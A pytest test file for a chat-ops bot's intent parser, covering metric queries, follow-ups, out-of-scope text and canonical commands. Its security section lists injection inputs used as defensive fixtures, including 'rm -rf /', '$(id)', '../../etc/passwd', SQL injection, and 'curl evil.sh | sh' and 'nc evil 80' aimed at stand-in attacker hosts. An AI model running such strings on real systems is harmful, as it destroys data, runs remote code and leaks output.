"""The parser as the bot uses it (trained classifier): CONTRACT.md's examples, free-text slot
extraction, follow-ups, out-of-scope text, the injection corpus and canonical commands."""

from __future__ import annotations

import json
import subprocess
import sys
import time
from collections.abc import Sequence

import pytest

from intents.model import INTENT_NAMES, INTENT_SLOTS, METRICS, SEVERITIES, Intent, SlotValue, Turn
from intents.parser import IntentParser
from ml.intent_classifier import build_parser


@pytest.fixture(scope="module")
def parser() -> IntentParser:
    return build_parser()


def converse(parser: IntentParser, messages: Sequence[str]) -> list[Intent]:
    """Parse messages as one conversation, remembering each resolved turn like the bot."""
    history: list[Turn] = []
    out: list[Intent] = []
    for at, message in enumerate(messages):
        intent = parser.parse(message, history)
        history.append(Turn(intent.name, intent.slots, float(at)))
        out.append(intent)
    return out


def shape(intent: Intent) -> tuple[str, dict[str, SlotValue]]:
    return intent.name, dict(intent.slots)


# --------------------------------------------------------------------------- CONTRACT.md


def test_contract_example_conversation(parser: IntentParser) -> None:
    """CONTRACT.md: "memory of api-2 over the last 4h" then "and disk?"."""
    first, second = converse(parser, ["memory of api-2 over the last 4h", "and disk?"])
    assert shape(first) == (
        "metric_query",
        {"metric": "memory", "target": "api-2", "range": 14_400},
    )
    assert shape(second) == ("metric_query", {"metric": "disk", "target": "api-2", "range": 14_400})


@pytest.mark.parametrize(
    ("text", "intent", "slots"),
    [
        ("silence NodeDown for 45m", "alert_silence", {"alertname": "NodeDown", "duration": 2700}),
        (
            "scale search to 3",
            "remediation",
            {"action": "scale", "target": "search", "replicas": 3},
        ),
        ("how's the weather", "unknown", {}),
    ],
)
def test_contract_examples(
    parser: IntentParser, text: str, intent: str, slots: dict[str, SlotValue]
) -> None:
    """CONTRACT.md's single-message examples, exactly."""
    assert shape(parser.parse(text)) == (intent, slots)


def test_issue_done_when_conversation(parser: IntentParser) -> None:
    """The issue's "done when" console session resolves turn by turn."""
    turns = converse(
        parser,
        [
            "cpu of web-1 over the last 2h",
            "and memory?",
            "what's down?",
            "promql up",
            "what alerts are firing",
        ],
    )
    assert [shape(t) for t in turns] == [
        ("metric_query", {"metric": "cpu", "target": "web-1", "range": 7200}),
        ("metric_query", {"metric": "memory", "target": "web-1", "range": 7200}),
        ("status", {}),
        ("promql", {"expr": "up"}),
        ("alerts_list", {}),
    ]


def test_json_has_the_contract_shape(parser: IntentParser) -> None:
    """``to_json`` gives intent, confidence in [0, 1], slots with contract types, canonical."""
    data = json.loads(json.dumps(parser.parse("cpu of web-1 over the last 2h").to_json()))
    assert data == {
        "intent": "metric_query",
        "confidence": data["confidence"],
        "slots": {"metric": "cpu", "target": "web-1", "range": 7200},
        "act": "command",
        "canonical": "metric cpu web-1 2h",
    }
    assert 0.0 <= data["confidence"] <= 1.0


@pytest.mark.parametrize(
    "text",
    [
        "cpu web-1 2h",
        "how much ram is payments using since yesterday",
        "scale checkout-api to five replicas",
        "any warnings for db-primary",
        "mute HighLatency for half an hour",
        "anything odd with latency on search over the past day",
        "tell me a joke",
    ],
)
def test_slot_values_have_contract_types(parser: IntentParser, text: str) -> None:
    """Ranges/durations/replicas are ints, metric and severity canonical, no null slots."""
    intent = parser.parse(text)
    assert intent.name in INTENT_NAMES
    assert set(intent.slots) <= set(INTENT_SLOTS[intent.name])
    for name, value in intent.slots.items():
        assert value is not None
        if name in ("range", "duration", "replicas"):
            assert isinstance(value, int)
            assert not isinstance(value, bool)
        if name == "metric":
            assert value in METRICS
        if name == "severity":
            assert value in SEVERITIES


# --------------------------------------------------------------------------- free text


@pytest.mark.parametrize(
    ("text", "intent", "slots"),
    [
        (
            "show me memroy for web-2 over the past day",
            "metric_query",
            {"metric": "memory", "target": "web-2", "range": 86_400},
        ),
        ("cpuu on db-primary", "metric_query", {"metric": "cpu", "target": "db-primary"}),
        (
            "what's the laetncy of checkout-api in the last 45 minutes",
            "metric_query",
            {"metric": "latency", "target": "checkout-api", "range": 2700},
        ),
        (
            "how much bandwidth is web-1 using",
            "metric_query",
            {"metric": "network", "target": "web-1"},
        ),
        (
            "graph the load on web-2 for 90m",
            "metric_query",
            {"metric": "cpu", "target": "web-2", "range": 5400},
        ),
        (
            "how many 5xx did payments throw in the last day",
            "metric_query",
            {"metric": "error_rate", "target": "payments", "range": 86_400},
        ),
        (
            "what's the response time for search over the last hour",
            "metric_query",
            {"metric": "latency", "target": "search", "range": 3600},
        ),
        (
            "traffic on checkout-api over the past day",
            "metric_query",
            {"metric": "request_rate", "target": "checkout-api", "range": 86_400},
        ),
        ("heap usage of payments", "metric_query", {"metric": "memory", "target": "payments"}),
        ("is web-1 up", "status", {"target": "web-1"}),
        ("health of payments", "health", {"target": "payments"}),
        ("what's down?", "status", {}),
        (
            "critical alerts for db-primary",
            "alerts_list",
            {"severity": "critical", "target": "db-primary"},
        ),
        ("what alerts are firing", "alerts_list", {}),
        ("anything unusual with checkout-api?", "anomaly_query", {"target": "checkout-api"}),
        ("is anything odd", "anomaly_query", {}),
        ("any anomalies in the last 6h", "anomaly_query", {"range": 21_600}),
        (
            "could you please bounce the checkout-api service",
            "remediation",
            {"action": "restart", "target": "checkout-api"},
        ),
        ("roll payments back please", "remediation", {"action": "rollback", "target": "payments"}),
        (
            "run runbook flush-cache on payments",
            "remediation",
            {"action": "flush-cache", "target": "payments"},
        ),
        (
            "please silence DiskFull on db-primary for 30 minutes",
            "alert_silence",
            {"alertname": "DiskFull", "target": "db-primary", "duration": 1800},
        ),
        ("yes, approve request #31", "approve", {"request_id": "31"}),
        ("don't approve 12", "unknown", {}),
        (
            "send critical alerts for payments to this channel",
            "subscribe",
            {"severity": "critical", "target": "payments"},
        ),
        ("stop posting alerts here", "unsubscribe", {}),
        ("how do I silence an alert?", "help", {"topic": "silence"}),
        ("what can you do", "help", {}),
    ],
)
def test_free_text_intents_and_slots(
    parser: IntentParser, text: str, intent: str, slots: dict[str, SlotValue]
) -> None:
    """Free text: intent from the classifier, slots from the extractors, typos tolerated."""
    assert shape(parser.parse(text)) == (intent, slots)


@pytest.mark.parametrize(
    ("text", "slots"),
    [
        ("anomalies payments", {"target": "payments"}),
        ("anomalies payments last 24h", {"target": "payments", "range": 86_400}),
        ("anomaly payments 2h", {"target": "payments", "range": 7200}),
        ("payments anomalies over the past day", {"target": "payments", "range": 86_400}),
        ("any anomalies search?", {"target": "search"}),
        # the words after "anomaly" that name the report, and names followed by more words
        ("give me an anomaly report", {}),
        ("anomaly report for the last day", {"range": 86_400}),
        ("anomalies scan 2h", {"range": 7200}),
    ],
)
def test_a_bare_name_beside_an_anomaly_word_is_its_target(
    parser: IntentParser, text: str, slots: dict[str, SlotValue]
) -> None:
    """ "anomalies payments last 24h" used to look at every target (echoed "anomalies
    1d"): a name has no preposition before it there, yet nothing else could be meant."""
    assert shape(parser.parse(text)) == ("anomaly_query", slots)


@pytest.mark.parametrize(
    "text",
    [
        "<@U024BE7LH> cpu of web-1 over the last 2h",
        "<@U024BE7LH|smartcloudops> cpu of web-1 over the last 2h",
        "<at>SmartCloudOps</at> cpu of web-1 over the last 2h",
        "<@!812345678901> cpu of web-1 over the last 2h",
        "@bot cpu of web-1 over the last 2h",
        "@smartcloudops cpu of web-1 over the last 2h",
    ],
)
def test_mentions_do_not_change_the_answer(parser: IntentParser, text: str) -> None:
    """Every platform's way of addressing the bot parses like the bare text."""
    assert shape(parser.parse(text)) == (
        "metric_query",
        {"metric": "cpu", "target": "web-1", "range": 7200},
    )


@pytest.mark.parametrize(
    "text",
    [
        "how's the weather",
        "tell me a joke",
        "what's the capital of France",
        "who won the football game last night",
        "order me a pizza",
        "how do I bake bread",
        "thanks!",
        "good morning",
        "help me plan a birthday party",
        "what's 2 plus 2",
    ],
)
def test_out_of_scope_text_is_unknown(parser: IntentParser, text: str) -> None:
    """Out-of-scope text is unknown, with no slots and no canonical command."""
    result = parser.parse(text)
    assert (result.name, dict(result.slots), result.canonical) == ("unknown", {}, None)


# --------------------------------------------------------------------------- follow-ups


@pytest.mark.parametrize(
    ("messages", "last"),
    [
        (
            ["cpu of web-1 over the last 2h", "and memory?"],
            {"metric": "memory", "target": "web-1", "range": 7200},
        ),
        (
            ["cpu of web-1 over the last 2h", "what about the last 3 hours"],
            {"metric": "cpu", "target": "web-1", "range": 10_800},
        ),
        (
            ["cpu of web-1 over the last 2h", "same for checkout-api"],
            {"metric": "cpu", "target": "checkout-api", "range": 7200},
        ),
        (
            ["cpu of web-1 over the last 2h", "and for web-2?"],
            {"metric": "cpu", "target": "web-2", "range": 7200},
        ),
        (
            ["cpu of web-1 over the last 2h", "now disk"],
            {"metric": "disk", "target": "web-1", "range": 7200},
        ),
        (
            ["cpu of web-1 over the last 2h", "how about web-2's latency"],
            {"metric": "latency", "target": "web-2", "range": 7200},
        ),
        (
            ["cpu of web-1 over the last 2h", "and payments?"],
            {"metric": "cpu", "target": "payments", "range": 7200},
        ),
        (
            ["cpu of web-1 over the last 2h", "memroy?"],
            {"metric": "memory", "target": "web-1", "range": 7200},
        ),
        (["status of web-1", "cpu?"], {"metric": "cpu", "target": "web-1"}),
    ],
)
def test_followups_fill_missing_slots_from_history(
    parser: IntentParser, messages: list[str], last: dict[str, SlotValue]
) -> None:
    """A follow-up keeps the previous query and replaces only what it says."""
    assert shape(converse(parser, messages)[-1]) == ("metric_query", last)


def test_a_chain_of_followups_keeps_accumulating(parser: IntentParser) -> None:
    """Each follow-up refines the turn before it, not the first one."""
    turns = converse(
        parser,
        [
            "memory of api-2 over the last 4h",
            "and disk?",
            "what about the last 3 hours",
            "same for checkout-api",
        ],
    )
    assert shape(turns[-1]) == (
        "metric_query",
        {"metric": "disk", "target": "checkout-api", "range": 10_800},
    )


def test_followups_refine_other_intents(parser: IntentParser) -> None:
    """Alerts, anomalies, PromQL and silences take follow-ups too."""
    alerts = converse(parser, ["critical alerts", "and for payments?"])[-1]
    anomaly = converse(parser, ["anything unusual on checkout-api", "what about latency"])[-1]
    promql = converse(parser, ["promql rate(x[5m])", "what about the last 6 hours"])[-1]
    silence = converse(parser, ["silence NodeDown for 45m", "make it 2h"])[-1]
    assert shape(alerts) == ("alerts_list", {"severity": "critical", "target": "payments"})
    assert shape(anomaly) == ("anomaly_query", {"target": "checkout-api", "metric": "latency"})
    assert shape(promql) == ("promql", {"expr": "rate(x[5m])", "range": 21_600})
    assert (silence.name, silence.suggestion) == ("unknown", "silence NodeDown for 2h")


def test_a_new_request_is_not_a_followup(parser: IntentParser) -> None:
    """A turn naming another intent starts fresh; nothing leaks from the previous one."""
    turns = converse(parser, ["cpu of web-1 over the last 2h", "what's down?", "alerts"])
    assert [shape(t) for t in turns[1:]] == [("status", {}), ("alerts_list", {})]


def test_followup_without_history_uses_only_what_it_says(parser: IntentParser) -> None:
    """With no conversation, "and memory?" is a bare memory query (nothing invented)."""
    assert shape(parser.parse("and memory?")) == ("metric_query", {"metric": "memory"})


def test_unknown_turns_do_not_break_a_conversation(parser: IntentParser) -> None:
    """A follow-up refines the last real request even after an out-of-scope message."""
    turns = converse(parser, ["cpu of web-1 over the last 2h", "tell me a joke", "and memory?"])
    assert shape(turns[-1]) == (
        "metric_query",
        {"metric": "memory", "target": "web-1", "range": 7200},
    )


@pytest.mark.parametrize(
    "text",
    [
        "how much latency will payments have in 5 hours?",
        "how much memory will payments use in 2 days",
        "will payments latency go over 300 ms today?",
    ],
)
def test_a_plain_name_after_will_is_what_to_forecast(parser: IntentParser, text: str) -> None:
    """ "how much latency will payments have": the name after "will" is the target (it was
    dropped, and the bot asked which target to forecast)."""
    found = parser.parse(text)
    assert (found.name.value, found.slots.get("target")) == ("forecast", "payments")


@pytest.mark.parametrize(
    ("text", "slots"),
    [
        ("disk next week", {"metric": "disk", "horizon": 7 * 86_400}),  # was a look-back
        ("cpu of web-1 over the next 6 hours",
         {"metric": "cpu", "target": "web-1", "horizon": 6 * 3600}),
        ("disk next monday", {"metric": "disk"}),  # was last Monday
        ("will disk fill up by friday", {"metric": "disk"}),  # "fill" was the target
        # the classifier's forecasts had no slots at all
        ("will cache-1 be full by tomorrow", {"target": "cache-1", "horizon": 86_400}),
        ("project the memory growth of web-2", {"metric": "memory", "target": "web-2"}),
    ],
)  # fmt: skip
def test_the_future_is_forecast_never_looked_back_on(
    parser: IntentParser, text: str, slots: dict[str, object]
) -> None:
    found = parser.parse(text)
    assert (found.name.value, dict(found.slots)) == ("forecast", slots)


def test_the_next_hours_of_a_silence_are_still_its_length(parser: IntentParser) -> None:
    found = parser.parse("silence DiskFull for the next 2 hours")
    assert shape(found) == ("alert_silence", {"alertname": "DiskFull", "duration": 7200})


def test_a_forecast_follow_up_stays_a_forecast(parser: IntentParser) -> None:
    """ "and memory?" after "when will db-primary disk be full" forecasts memory; a threshold
    belongs to its metric and is not carried to another one."""
    texts = ["when will db-primary disk be full", "and memory?",
             "will payments latency go over 300 ms?", "and cpu?"]  # fmt: skip
    turns = converse(parser, texts)
    assert shape(turns[1]) == ("forecast", {"metric": "memory", "target": "db-primary"})
    assert shape(turns[3]) == ("forecast", {"metric": "cpu", "target": "payments"})


def test_pronouns_point_at_the_last_target(parser: IntentParser) -> None:
    """ "restart it" after a question about web-1 restarts web-1."""
    turns = converse(parser, ["status of web-1", "restart it"])
    assert shape(turns[-1]) == ("remediation", {"action": "restart", "target": "web-1"})


def test_yes_and_no_are_confirmations(parser: IntentParser) -> None:
    """ "yes"/"no" answer a pending "did you mean"; they never approve or deny a request."""
    assert converse(parser, ["restart web-1", "yes"])[-1].name == "confirm"
    assert converse(parser, ["scale search to 3", "no"])[-1].name == "confirm"
    assert shape(parser.parse("yes")) == ("confirm", {"answer": "yes"})


def test_a_whole_new_question_inherits_nothing(parser: IntentParser) -> None:
    """After an anomaly question, "cpu of web-1 over the last 2h" is a plain metric query;
    "mem web-1" after "cpu web-1 10m" does not keep the 10 minutes."""
    anomaly = "anything unusual with checkout-api?"
    first = converse(parser, [anomaly, "cpu of web-1 over the last 2h"])
    second = converse(parser, ["cpu web-1 10m", "mem web-1"])
    assert shape(first[-1]) == ("metric_query", {"metric": "cpu", "target": "web-1", "range": 7200})
    assert shape(second[-1]) == ("metric_query", {"metric": "memory", "target": "web-1"})


# --------------------------------------------------------------------------- security

INJECTIONS = [
    "restart foo; rm -rf /",
    "restart $(id)",
    "restart `id`",
    "restart web-1\nrm -rf /",
    "restart web-1 --kubeconfig=x",
    "scale <!channel> to 3",
    "<!channel> restart payments",
    "restart foo && reboot",
    "restart foo | sh",
    "restart ../../etc/passwd",
    "rollback payments'; --",
    "silence NodeDown; curl evil.sh | sh",
    "approve 12; drop table requests",
    "subscribe critical $(id)",
    "cpu of foo; rm -rf /",
    "status of $(id)",
    "alerts for `whoami`",
    "cpu of web-1 | nc evil 80",
    "status web-1 --kubeconfig=/tmp/x",
    "memory of <!everyone>",
]
_SHELL = set(";$`|&<>/\\\n !(){}'\"")


@pytest.mark.parametrize("text", INJECTIONS)
def test_injection_never_lands_in_a_name_slot(parser: IntentParser, text: str) -> None:
    """Targets, alert names, request ids and actions are only ever plain names."""
    intent = parser.parse(text)
    for name in ("target", "alertname", "request_id", "action"):
        value = intent.slots.get(name)
        assert value is None or not (_SHELL & set(str(value))), (name, value)
    assert intent.slots.get("target") not in ("id", "whoami", "rm", "x")


@pytest.mark.parametrize(
    "text",
    [
        t
        for t in INJECTIONS
        if t.split()[0]
        in ("restart", "rollback", "scale", "silence", "approve", "subscribe", "<!channel>")
    ],
)
def test_side_effects_with_shell_syntax_are_refused(parser: IntentParser, text: str) -> None:
    """A remediation, silence, approval or subscription carrying shell syntax is unknown."""
    assert shape(parser.parse(text)) == ("unknown", {})


@pytest.mark.parametrize(
    "text", ["don't restart web-1", "do not silence NodeDown", "never scale search to 3"]
)
def test_negated_actions_are_not_acted_on(parser: IntentParser, text: str) -> None:
    """ "don't restart web-1" must never come back as a restart."""
    assert parser.parse(text).name == "unknown"


# --------------------------------------------------------------------------- canonical


@pytest.mark.parametrize(
    "text",
    [
        "cpu of web-1 over the last 2h",
        "any anomalies in latency on search over the past 6 hours",
        "promql rate(x[5m]) over the last 3 hours",
        "critical alerts for db-primary",
        "please silence DiskFull on db-primary for 30 minutes",
        "snooze alerts for web-1 for an hour",
        "bring checkout-api up to 6 replicas",
        "run runbook flush-cache on payments",
        "roll payments back",
        "approve request 12",
        "deny #9",
        "subscribe warning web-1",
        "unsubscribe from critical alerts",
        "help with silences",
        "is web-1 up",
        "is payments up",
        "warnings for payments",
        "anything unusual in latency for search today",
        "silence search for 2h",
        "silence NodeDown on search for 1h",
        "subscribe to critical alerts for payments",
        "unsubscribe from payments",
        "memory of search over 2 days",
        "scale payments to 4",
    ],
)
def test_canonical_command_parses_back_to_the_same_intent(parser: IntentParser, text: str) -> None:
    """The canonical command of a parse is a terse command with the same meaning."""
    first = parser.parse(text)
    assert first.canonical
    assert shape(parser.parse(first.canonical)) == shape(first)


# --------------------------------------------------------------------------- speed, purity


def test_a_parse_takes_well_under_five_milliseconds(parser: IntentParser) -> None:
    """After construction a free-text parse costs about a millisecond."""
    messages = [
        "could you please bounce the checkout-api service",
        "what's down?",
        "how's the weather",
    ]
    for m in messages:
        parser.parse(m)
    start = time.perf_counter()
    rounds = 50
    for _ in range(rounds):
        for m in messages:
            parser.parse(m)
    per_parse = (time.perf_counter() - start) / (rounds * len(messages))
    assert per_parse < 0.005


def test_a_pasted_wall_of_text_parses_quickly(parser: IntentParser) -> None:
    """A 40,000-character message (Slack's limit) costs milliseconds, not seconds."""
    wall = "cpu web-1 over 2h and then some more words " * 1000
    start = time.perf_counter()
    parser.parse(wall[:40_000])
    assert time.perf_counter() - start < 0.5


def test_parse_is_pure(parser: IntentParser) -> None:
    """The same text and history always give the same intent; history is not mutated."""
    history = [Turn("metric_query", {"metric": "cpu", "target": "web-1", "range": 7200}, 1.0)]
    snapshot = [t.to_json() for t in history]
    results = {json.dumps(parser.parse("and memory?", history).to_json()) for _ in range(5)}
    assert len(results) == 1
    assert [t.to_json() for t in history] == snapshot


def test_the_core_does_not_import_scikit_learn() -> None:
    """Importing the parser and its modules pulls in no sklearn (it is injected from ml/)."""
    code = (
        "import sys, intents, intents.parser, intents.features, intents.scope; "
        "bad = sorted(m for m in sys.modules if m.split('.')[0] in "
        "{'sklearn', 'scipy', 'slack_bolt', 'slack_sdk', 'botbuilder', 'discord', 'redis', "
        "'sqlalchemy'}); print(','.join(bad))"
    )
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == ""
